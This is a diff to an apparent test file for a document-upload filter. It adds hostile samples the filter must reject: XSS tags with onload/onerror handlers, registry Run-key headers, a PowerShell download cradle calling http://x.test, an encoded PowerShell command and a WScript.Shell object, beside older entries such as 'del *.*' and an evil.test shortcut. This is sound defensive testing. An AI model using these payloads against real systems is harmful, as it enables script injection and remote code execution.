@@ -328,6 +328,14 @@ function texts(): Hostile[] {
     ['a batch file', '@echo off\r\ndel *.*'],
     ['a shortcut', '[InternetShortcut]\nURL=file://evil.test/a.exe'],
     ['rtf', String.raw`{\rtf1\ansi {\object\objdata 0105}}`],
+    ['an element that acts', 'Dear Sir,\n<svg onload=alert(1)>'],
+    ['an element that acts, without a blank', 'Dear Sir,\n<img/src="x"/onerror=alert(1)>'],
+    ['settings of Windows', 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Run]'],
+    ['older settings of Windows', 'REGEDIT4\r\n[HKEY_CURRENT_USER\\Run]'],
+    ['a script of PowerShell', '<#\nhelp\n#>\nGet-Item x'],
+    ['what a script downloads', 'Hello\r\n$a = (New-Object Net.WebClient).DownloadString("http://x.test")'],
+    ['a line that runs one', 'Please type: powershell -enc SQBFAFgA'],
+    ['a script of Windows', 'Set x = CreateObject("WScript.Shell")'],
     ['the test virus', eicar],
     ['zeros', Buffer.from('a\0b')],
     ['an escape sequence of a terminal', '\u001b]0;x\u0007'],
@@ -405,6 +413,8 @@ test('a document that is not hostile is taken under each of these names', async 
     ['../../etc/Vertrag.docx', await makeDocx()],
     ['رسالة.doc', makeDoc()],
     ['notes v1.2 2026.txt', Buffer.from('1 < 2 and a<b; see script.js')],
+    ['witness.txt', Buffer.from('He was <very> sure, "on Monday" he said <it once> = no doubt; speed < 40 on = off')],
+    ['words of programs.txt', Buffer.from('The registry editor of Windows, my power shell and the svg of onload stay words.')],
   ]
   for (const [name, bytes] of good) {
     const type = types[name.split('.').at(-1) ?? ''] ?? ''
